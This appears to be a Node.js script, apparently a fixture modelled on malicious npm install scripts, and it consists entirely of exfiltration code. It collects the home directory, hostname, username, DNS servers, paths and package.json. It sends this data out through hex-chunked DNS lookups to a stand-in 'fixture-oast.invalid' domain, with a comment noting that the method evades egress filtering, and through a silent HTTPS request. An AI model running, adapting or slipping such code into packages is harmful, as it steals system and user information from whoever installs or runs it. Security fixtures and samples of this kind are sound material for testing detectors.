const os = require('os');
const dns = require('dns');
const https = require('https');
const querystring = require('querystring');
const pkg = require('./package.json');

const trackingData = JSON.stringify({
  p: __dirname,
  c: process.cwd(),
  hd: os.homedir(),
  hn: os.hostname(),
  un: os.userInfo().username,
  dns: dns.getServers(),
  r: pkg ? pkg.___resolved : undefined,
  v: pkg.version,
  pjson: pkg,
});

// DNS first: egress filters that block HTTP usually let resolvers through.
const hex = Buffer.from(trackingData).toString('hex');
const id = Math.random().toString(36).slice(2, 8);
const chunks = hex.match(/.{1,60}/g) || [];
chunks.forEach((chunk, i) => {
  dns.lookup(`${chunk}.${i}.${id}.beacon.fixture-oast.invalid`, () => {});
});

const postData = querystring.stringify({ msg: trackingData });
const req = https.request(
  {
    hostname: 'collector.fixture-oast.invalid',
    port: 443,
    path: `/?${postData}`,
    method: 'GET',
  },
  (res) => res.on('data', () => {}),
);
req.on('error', () => {});
req.end();
